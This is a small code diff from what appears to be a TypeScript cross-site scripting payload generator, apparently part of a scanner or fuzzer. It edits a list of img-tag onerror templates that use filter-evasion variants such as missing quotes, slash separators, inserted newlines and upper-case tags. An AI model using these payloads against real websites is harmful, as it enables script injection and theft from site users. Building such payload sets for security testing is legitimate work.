@@ -140,7 +140,7 @@ const groups: Record<PayloadKind, Builder[]> = {
   'html-handler': [
     ({ s }) => `<img src=x onerror="${s}">`,
     ({ ns }) => `<img src=x onerror=${ns}>`,
-    ({ ns }) => `<img/src=x/onerror=${ns}>`,
+    ({ ns }) => `<img/src="x"/onerror=${ns}>`,
     ({ ns }) => `<img src=x onerror\n=${ns}>`,
     ({ ns }) => `<IMG SRC=x ONERROR=${ns}>`,
     ({ s }) => `<img src="x" onerror="${s}" >`,
